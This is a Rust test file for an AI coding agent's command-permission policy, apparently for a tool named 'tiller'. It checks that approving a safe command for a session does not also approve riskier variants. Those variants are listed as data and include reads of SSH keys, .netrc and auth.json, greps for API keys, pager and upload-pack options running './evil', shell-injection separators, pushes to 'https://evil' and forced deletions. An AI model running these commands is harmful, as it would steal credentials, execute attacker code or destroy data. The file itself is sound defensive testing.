//! Commands that a session rule must not cover, and commands that it must.

use std::sync::Arc;

use serde_json::json;
use tiller_core::protected_path::ProtectedPaths;
use tiller_core::tool_spec::{Access, ToolSpec, ToolTraits};

use super::{CommandPattern, Options, TABLE, split_options};
use crate::policy::{Policy, PolicyVerdict, SessionRules};

/// A command that was allowed for the session, and commands that need approval nevertheless.
const WIDENINGS: &[(&str, &[&str])] = &[
    // Options that write a file, in each spelling.
    (
        "git log -1",
        &[
            "git log -1 --output=.git/hooks/pre-commit",
            "git log -1 --output .git/hooks/pre-commit",
            "git log -1 --output=src/lib.rs",
            "git log -1 --outp=src/lib.rs",
            "git log -1 --output src/lib.rs",
            "git log src --output=x",
            "git log -1 -- --output=x",
            "git log --ext-diff -p",
            "git log -1 --show-signature",
            "git log -p --textconv",
            "git log *",
            "git log [-]*",
            "git log ?-output=x",
            "git -c core.pager=./evil log -1",
            "git -C ../other log -1",
            "git -p log",
            "git --paginate log",
            "git --exec-path=. log",
            "git --git-dir=x log",
            "git --work-tree=/ log",
            "git log -1 -O./evil",
            "git log \"--output=x\"",
            "git log '--out'put=x",
            "git log -1 -\"-output\" x",
            "git log ''--output=x",
            "git log\t--output=x",
            "git log -n --output=x",
            "git log -pO./evil",
            "git log --no-pager --output=x",
            "git --no-pager -c core.pager=./evil log",
            "git reflog expire --all",
            "git config alias.log x",
            "./git log -1",
            "/tmp/git log -1",
            "GIT_PAGER=./evil git log -1",
            "GIT_EXTERNAL_DIFF=./evil git log -p",
            "env GIT_PAGER=./evil git log",
            "PATH=. git log",
        ],
    ),
    (
        "git diff",
        &[
            "git diff --output=x",
            "git diff --outpu=x",
            "git diff --ext-diff",
            "git diff --ext-d",
            "git diff --no-index / x",
            "git diff -O./order",
            "git diff HEAD --output x",
            "git diff *.rs",
            "git difftool -x ./evil",
        ],
    ),
    ("git show", &["git show --output=x", "git show HEAD --textconv", "git show --show-signature"]),
    (
        "git grep x",
        &[
            "git grep -O./evil x",
            "git grep -nO./evil x",
            "git grep --open-files-in-pager=./evil x",
            "git grep --open=./evil x",
            "git grep x -O",
            "git grep -e x -O./evil",
        ],
    ),
    ("git status", &["git stash", "git stage x --force", "git status --porcelain --output=x"]),
    ("git blame x", &["git blame --contents /etc/passwd x", "git blame --ignore-revs-file x y"]),
    (
        "git branch",
        &["git branch -D main", "git branch new", "git branch -lD main", "git branch -f main HEAD~9"],
    ),
    ("git branch -a", &["git branch -d main", "git branch -m main other", "git branch --edit-description"]),
    ("git tag", &["git tag -d v1", "git tag v2", "git tag -f v1", "git tag -s v2"]),
    ("git tag --list", &["git tag --delete v1", "git tag -u key v2"]),
    (
        "git remote -v",
        &["git remote add evil https://evil", "git remote set-url origin x", "git remote remove origin"],
    ),
    ("git remote", &["git remote update", "git remote show https://evil"]),
    ("git stash list", &["git stash drop", "git stash clear", "git stash pop", "git stash"]),
    ("git stash", &["git stash drop", "git stash push --all"]),
    ("git worktree list", &["git worktree add ../x", "git worktree remove --force x"]),
    ("git notes list", &["git notes remove HEAD"]),
    ("git reflog", &["git reflog delete HEAD@1", "git reflog expire --expire=now --all"]),
    (
        "git push",
        &[
            "git push --delete origin main",
            "git push origin :main",
            "git push -d origin main",
            "git push origin main",
            "git push evil main",
            "git push https://evil main",
            "git push --receive-pack=./evil",
            "git push --exec=./evil",
            "git push --mirror",
            "git push --prune",
            "git push --tags",
            "git push --no-verify",
            "git push --repo=evil",
        ],
    ),
    ("git push origin main", &["git push evil main", "git push origin :main", "git push origin --del main"]),
    (
        "git fetch",
        &[
            "git fetch --upload-pack=./evil",
            "git fetch --upload-pack ./evil origin",
            "git fetch --upl=./evil",
            "git fetch ext::./evil",
            "git fetch https://evil",
            "git fetch origin +main:main",
            "git fetch --force origin main:main",
            "git fetch --prune",
        ],
    ),
    ("git pull", &["git pull --rebase=i", "git pull https://evil", "git pull --upload-pack=./evil"]),
    ("git clone a", &["git clone -u ./evil a", "git clone --template=evil a", "git clone https://evil"]),
    ("git ls-remote", &["git ls-remote --upload-pack=./evil .", "git ls-remote https://evil"]),
    ("git archive HEAD", &["git archive -o x HEAD", "git archive --exec=./evil --remote=. HEAD"]),
    ("git add x", &["git add --force y", "git add -f y", "git add -e", "git add -i", "git add -nf y"]),
    (
        "git commit -m x",
        &[
            "git commit --amend -m x",
            "git commit --no-verify -m x",
            "git commit -nm x",
            "git commit -F /etc/passwd",
        ],
    ),
    (
        "git checkout main",
        &["git checkout -B main other", "git checkout other --", "git checkout --force main"],
    ),
    ("git merge x", &["git merge -s ours x", "git merge --no-verify y", "git merge y"]),
    ("git am x", &["git am --exec=x", "git am y"]),
    ("git init", &["git init --template=evil", "git init ../x"]),
    (
        "cargo test",
        &[
            "cargo test --config build.rustc-wrapper='./evil'",
            "cargo test --config=./evil.toml",
            "cargo test --conf ./evil.toml",
            "cargo test --manifest-path ../evil/Cargo.toml",
            "cargo test --target-dir .git",
            "cargo test --target ./evil.json",
            "cargo test -Z unstable-options",
            "cargo test -Zscript",
            "cargo test -C ../evil",
            "cargo test -vC../evil",
            "cargo test -- --logfile=src/lib.rs",
            "cargo test parse --config ./evil.toml",
            "cargo +evil test",
            "cargo --config ./evil.toml test",
            "cargo -C ../evil test",
            "cargo testify",
            "RUSTC_WRAPPER=./evil cargo test",
            "CARGO_TARGET_DIR=/ cargo test",
            "env RUSTC=./evil cargo test",
            "cargo test *",
            "cargo t",
        ],
    ),
    ("cargo build", &["cargo build --config x", "cargo build --artifact-dir=/", "cargo build --out-dir /"]),
    ("cargo clippy", &["cargo clippy --fix", "cargo clippy -- @evil", "cargo clippy -- -Clinker=./evil"]),
    ("cargo clippy -- -D warnings", &["cargo clippy -- -o src/lib.rs", "cargo clippy --fix --allow-dirty"]),
    ("cargo doc", &["cargo doc --open"]),
    ("cargo fmt", &["cargo fmt -- --config-path evil", "cargo fmt -- ../other/x.rs"]),
    ("cargo publish --dry-run", &["cargo publish", "cargo publish --dry-run --registry evil"]),
    ("cargo update", &["cargo update --recursive x", "cargo update --precise 1 y"]),
    ("cargo add a", &["cargo add b", "cargo add --git https://evil x"]),
    ("cargo run", &["cargo run -- x"]),
    (
        "make test",
        &[
            "make test SHELL=./evil",
            "make test CC=./evil",
            "make test -f evil.mk",
            "make test -C ../evil",
            "make test -E x",
            "make test --eval=x",
            "make test install",
            "make test -I evil",
        ],
    ),
    ("just test", &["just test deploy", "just test --shell ./evil"]),
    (
        "go test ./...",
        &[
            "go test -exec ./evil ./...",
            "go test -exec=./evil ./...",
            "go test --exec ./evil ./...",
            "go test -toolexec ./evil ./...",
            "go test -o x ./...",
            "go test -c ./...",
            "go test -coverprofile=src/lib.go ./...",
            "go test -modfile=evil.mod ./...",
            "go test -overlay evil.json ./...",
            "go test -C ../evil ./...",
            "go test ./... -args -x",
        ],
    ),
    (
        "go build ./...",
        &["go build -toolexec=./evil ./...", "go build -o /x ./...", "go build -ldflags=x ./..."],
    ),
    ("go vet ./...", &["go vet -vettool=./evil ./..."]),
    ("npm test", &["npm test --script-shell=./evil", "npm test --prefix ../evil", "npm test SHELL=./evil"]),
    ("npm run build", &["npm run deploy", "npm run build -- --out /", "npm run"]),
    ("npm ls", &["npm link ../evil", "npm ls --userconfig evil"]),
    ("yarn test", &["yarn test --cwd ../evil", "yarn add x", "yarn --cwd ../evil test"]),
    ("pip list", &["pip list --python ./evil", "pip list --index-url https://evil"]),
    ("pip show x", &["pip uninstall x", "pip show --proxy evil x"]),
    (
        "pytest",
        &["pytest -p evil", "pytest -c evil.ini", "pytest -xp evil", "pytest --junitxml=x", "pytest @evil"],
    ),
    (
        "gh pr view",
        &[
            "gh pr merge",
            "gh pr merge 1",
            "gh pr close 1",
            "gh pr view -R evil/x",
            "gh pr view --web",
            "gh pr view https://github.com/evil/x/pull/1",
            "gh pr checkout 1",
        ],
    ),
    ("gh pr list", &["gh pr create", "gh pr edit 1", "gh pr list --repo evil/x"]),
    ("gh issue list", &["gh issue delete 1", "gh issue create"]),
    ("gh repo view", &["gh repo delete", "gh repo create x"]),
    ("gh api x", &["gh api -X DELETE x", "gh api y"]),
    ("docker ps", &["docker rm x", "docker -H tcp://evil ps", "docker --context evil ps"]),
    ("docker compose ps", &["docker compose down", "docker compose down -v", "docker compose -f evil ps"]),
    ("docker image ls", &["docker image rm x", "docker image prune"]),
    (
        "kubectl get pods",
        &[
            "kubectl delete pods x",
            "kubectl get secrets",
            "kubectl get pods --kubeconfig evil",
            "kubectl get pods -o go-template-file=/home/me/.netrc",
        ],
    ),
    ("kubectl config view", &["kubectl config set-context x", "kubectl config view --raw"]),
    ("terraform plan", &["terraform plan -destroy", "terraform plan -out=x", "terraform apply"]),
    ("helm list", &["helm uninstall x", "helm list --kubeconfig evil"]),
    (
        "find . -name x",
        &["find . -exec ./evil +", "find src -delete", "find . -fprint x", "find . -ok ./evil +"],
    ),
    (
        "rg x",
        &[
            "rg --pre ./evil x",
            "rg --pre=./evil x",
            "rg -z x",
            "rg --hostname-bin=./evil x",
            "rg -nz x",
            "rg --hidden . ~",
        ],
    ),
    ("diff a b", &["diff --output=x a b", "diff -l a b", "diff --paginate a b"]),
    ("tree", &["tree -o x", "tree -ao x", "tree -Lo 2 x"]),
    ("file x", &["file -C -m x", "file --compile"]),
    (
        "cat README.md",
        &[
            "cat README.md > x",
            "cat x | sh",
            "cat $HOME/.ssh/id_rsa",
            "cat ~/.ssh/id_rsa",
            "cat ~/.s*/id_rsa",
            "cat ../.ssh/id_rsa",
            "cat /home/me/.netrc",
            "cat /proc/self/cwd/../.ssh/id_rsa",
            "cat /proc/self/root/home/me/.ssh/id_rsa",
            "cat /proc/self/environ",
            "cat /dev/fd/../cwd/../.ssh/id_rsa",
            "cat link/../.ssh/id_rsa",
            "cat ~root/.ssh/id_rsa",
            "cat ~/.config/tiller/auth.json",
            "cat ~/.config/tiller/skills/../auth.json",
            "cat ~/.local/state/tiller/auth.json",
            "catx",
        ],
    ),
    (
        "grep -n x y",
        &[
            "grep -rh PRIVATE /home/me",
            "grep -r sk- ..",
            "grep -r sk- ../",
            "grep -r sk- ~",
            "grep -r sk- /",
            "grep -r sk- ~/.config",
            "grep -r token ~/.cargo",
            "grep -r sk- ~/.local/state",
            "grep -f/home/me/.ssh/id_rsa -v x",
            "grep -f../.netrc -v x",
            "grep --file=../.netrc x",
        ],
    ),
    ("wc -l a", &["wc --files0-from=/home/me/.ssh/id_rsa", "wc --files0-from=../.netrc"]),
    ("ls", &["ls; rm x", "ls && ./evil", "ls $(./evil)", "ls `./evil`", "ls\n./evil", "lsof"]),
    ("sort x", &["sort -o src/lib.rs x", "sort --compress-program=./evil x"]),
    ("sed -n 1p x", &["sed -i 1d x", "sed -n w/etc/x y", "sed -n 1e x"]),
    ("tar tf x", &["tar xf x", "tar tf x --to-command=./evil"]),
    ("curl https://a", &["curl https://b", "curl -o x https://a"]),
    ("python3 x.py", &["python3 y.py", "python3 x.py z"]),
    (
        "python3 -m unittest x",
        &[
            "python3 -m timeit x",
            "python3 -c x",
            "python3 -m pip install x",
            "python3 -m pytest",
            "python3 -i -m unittest x",
            "python3 -X x -m unittest",
            "PYTHONPATH=/x python3 -m unittest",
            "python3 -m unittest x; ./evil",
            "./python3 -m unittest x",
        ],
    ),
    (
        "python3 -m pytest",
        &["python3 -m pytest -p evil", "python3 -m pytest -c evil.ini", "python3 -m pytest --junitxml=x"],
    ),
    ("python3 -m json.tool a", &["python3 -m json.tool a .git/hooks/x", "python3 -m json.tool ~/.netrc"]),
    ("python3 -m mypy x", &["python3 -m mypy --config-file=x y", "python3 -m mypy --junit-xml=x y"]),
    ("ruff check", &["ruff check --fix", "ruff check --config x", "ruff format"]),
    ("mvn test", &["mvn test deploy", "mvn test -Dx=y", "mvn test -f evil.xml"]),
    (
        "npm run clean",
        &["npm run clean /", "npm run clean -- /", "npm run clean2", "npm run clean --prefix x"],
    ),
    ("pnpm run build", &["pnpm run deploy", "pnpm run build --dir x", "pnpm build"]),
    ("yarn run build", &["yarn run deploy", "yarn run build --cwd x"]),
    ("ssh a ls", &["ssh a rm x", "ssh -o ProxyCommand=./evil a ls"]),
    ("jj log", &["jj log --config ui.pager=./evil", "jj log -R ../evil", "jj log --tool ./evil"]),
];

/// A command that was allowed for the session, and everyday commands that the rule covers.
const COVERED: &[(&str, &[&str])] = &[
    (
        "tail a",
        &["tail -50 ~/.local/state/tiller/outputs/x.txt", "tail /home/me/.local/state/tiller/outputs/x.txt"],
    ),
    (
        "cat a",
        &["cat ~/.config/tiller/skills/x/SKILL.md", "cat ../other/x", "cat /etc/hosts", "cat ~/notes.txt"],
    ),
    (
        "grep -n x y",
        &[
            "grep -rn @Override src",
            "grep -rn https://x src",
            "grep -rn 'http://' src",
            "grep -n PATH= env.txt",
            "grep -rn x .",
            "grep -rn x /home/me/work",
            "grep -rn x ~/src/other",
            "grep -rn x --include=*.rs src",
        ],
    ),
    ("git commit -m x", &["git commit -m 'see https://x/y'", "git commit -m '@me: X=1'"]),
    ("git diff", &["git diff @~1", "git diff @~", "git diff main...@"]),
    (
        "cargo test",
        &["cargo test parse", "cargo test -- --nocapture", "cargo test --lib parse -q", "cargo -q test"],
    ),
    ("cargo test parse", &["cargo test", "cargo test -p tiller-agent", "cargo test --release"]),
    ("cargo build", &["cargo build --release", "cargo build -v"]),
    ("cargo check --tests", &["cargo check", "cargo check --all-targets --locked"]),
    ("cargo clippy", &["cargo clippy --all-targets -- -D warnings", "cargo clippy -- -Dwarnings"]),
    (
        "git log -1",
        &[
            "git log -1 src/lib.rs",
            "git log --oneline -20",
            "git log -p -n 3 -- src",
            "git log -n3 --format='%h %s'",
            "git log main..topic --stat",
            "git --no-pager log -5",
            "git log -S needle --since=yesterday",
        ],
    ),
    (
        "git diff",
        &["git diff src/x.rs", "git diff --cached", "git diff HEAD~1 --stat -- src", "git diff -U0 -w"],
    ),
    ("git show", &["git show HEAD~2", "git show --stat HEAD", "git show HEAD:src/lib.rs"]),
    ("git status", &["git status --short", "git status -sb src", "git status --porcelain"]),
    ("git grep x", &["git grep -n y src", "git grep -il z"]),
    ("git blame x", &["git blame -L 1,5 y", "git blame -L1,5 y"]),
    ("git add x", &["git add y z", "git add -A"]),
    ("git commit -m x", &["git commit -m 'another message'", "git commit -am y"]),
    ("git stash list", &["git stash list --oneline"]),
    ("git rev-parse HEAD", &["git rev-parse --short HEAD", "git rev-parse --show-toplevel"]),
    ("ls", &["ls src", "ls -la src tests", "ls -R"]),
    ("cat a", &["cat b c", "cat -n src/lib.rs"]),
    ("grep -n x y", &["grep -rn other src", "grep -E 'a.c' src/lib.rs", "grep --include=*.rs -r x ."]),
    ("head -5 a", &["head -n 20 b", "head -c100 b"]),
    ("wc -l a", &["wc -c b"]),
    ("rg x", &["rg -n y src", "rg -g '*.rs' -tjs z", "rg --files"]),
    ("find . -name x", &["find src -type f", "find . -maxdepth 2 -name '*.rs'"]),
    ("go test ./...", &["go test -run Parse ./x", "go test -v -count=1 ./..."]),
    ("npm test", &["npm test parse", "npm test -- parse"]),
    ("npm run build", &["npm run build", "npm run build --silent"]),
    ("make test", &["make test -j", "make test -k -s"]),
    (
        "python3 -m unittest x",
        &["python3 -m unittest", "python3 -m unittest -v y", "python3 -m unittest discover -s t"],
    ),
    ("python3 -m pytest", &["python3 -m pytest tests/a.py", "python3 -m pytest -xvs -k parse"]),
    ("python3 -m json.tool a", &["python3 -m json.tool b", "python3 -m json.tool --sort-keys b"]),
    ("pytest", &["pytest tests/a.py", "pytest -xvs -k parse"]),
    ("gh pr view", &["gh pr view 12", "gh pr view 12 --comments"]),
    ("docker compose ps", &["docker compose ps web", "docker compose ps -a"]),
    ("kubectl get pods", &["kubectl get pods web", "kubectl get pods -n other"]),
];

/// Returns true if the rule offered for a command covers another command.
fn covers(allowed: &str, requested: &str) -> bool {
    let bash = ToolSpec {
        name: "bash".into(),
        description: String::new(),
        parameters: Arc::new(json!({})),
        traits: ToolTraits::new(Access::Executes),
    };
    let policy = Policy {
        root: "/home/me/work".into(),
        protected: ProtectedPaths {
            startup: Vec::new(),
            homes: vec!["/home/me".into()],
            tiller_dirs: vec!["/home/me/.config/tiller".into(), "/home/me/.local/state/tiller".into()],
            readable: vec![
                "/home/me/.config/tiller/skills".into(),
                "/home/me/.local/state/tiller/outputs".into(),
            ],
        },
        ..Policy::default()
    };
    let mut rules = SessionRules::default();
    match policy.judge(&bash, &json!({ "command": allowed }), &rules) {
        PolicyVerdict::Ask { rule, .. } => rules.add(rule),
        verdict => panic!("{allowed} doesn't ask: {verdict:?}"),
    }
    policy.judge(&bash, &json!({ "command": requested }), &rules).runs()
}

fn pairs(table: &[(&'static str, &[&'static str])]) -> Vec<(&'static str, &'static str)> {
    table
        .iter()
        .flat_map(|(allowed, requested)| requested.iter().map(|requested| (*allowed, *requested)))
        .collect()
}

#[test]
fn session_rule_wider_command_asks() {
    let pairs = pairs(WIDENINGS);
    let covered: Vec<_> = pairs.iter().filter(|(allowed, requested)| covers(allowed, requested)).collect();
    assert!(covered.is_empty(), "{} of {} are covered: {covered:#?}", covered.len(), pairs.len());
}

#[test]
fn session_rule_ordinary_command_is_covered() {
    let pairs = pairs(COVERED);
    let uncovered: Vec<_> = pairs.iter().filter(|(allowed, requested)| !covers(allowed, requested)).collect();
    assert!(uncovered.is_empty(), "{} of {} ask: {uncovered:#?}", uncovered.len(), pairs.len());
}

#[test]
fn table_command_is_no_beginning_of_another() {
    for first in TABLE {
        let begins = |other: &CommandPattern| other.command.starts_with(&format!("{} ", first.command));
        assert_eq!(TABLE.iter().find(|other| begins(other)), None, "{}", first.command);
        let count = TABLE.iter().filter(|other| other.command == first.command).count();
        assert_eq!(count, 1, "{}", first.command);
    }
}

/// Options that name a program, a file to write, a configuration, a remote or another directory, or that
/// delete or force something.
const NEVER_LISTED: &[&str] = &[
    "--output",
    "--ext-diff",
    "--textconv",
    "--exec",
    "--upload-pack",
    "--config",
    "--manifest-path",
    "--target-dir",
    "--target",
    "--force",
    "--delete",
    "--repo",
    "--remote",
    "--pre",
    "--open",
    "--fix",
    "--script-shell",
    "--prefix",
    "--cwd",
    "-exec",
    "-delete",
    "-toolexec",
    "-o=",
    "-C=",
    "-O",
    "-D",
    "-f",
    "--hostname",
    "--context",
    "--kubeconfig",
];

#[test]
fn table_options_that_write_or_run_are_not_listed() {
    for pattern in TABLE {
        let (Options::Joined(options) | Options::Whole(options)) = pattern.options else { continue };
        for never in NEVER_LISTED {
            let is_listed = split_options(options)
                .any(|option| option == *never || option.trim_end_matches('=') == *never);
            // Known exceptions, for which the letter means something else: a lint, lines of context, copies,
            // a format.
            let is_other = matches!(
                (pattern.command, *never),
                ("cargo clippy", "-D")
                    | ("mvn test", "-o")
                    | ("rg" | "git grep", "-C=")
                    | ("tree", "-f")
                    | ("rg", "--context")
            );
            assert!(!is_listed || is_other, "{}: {never}", pattern.command);
        }
    }
}
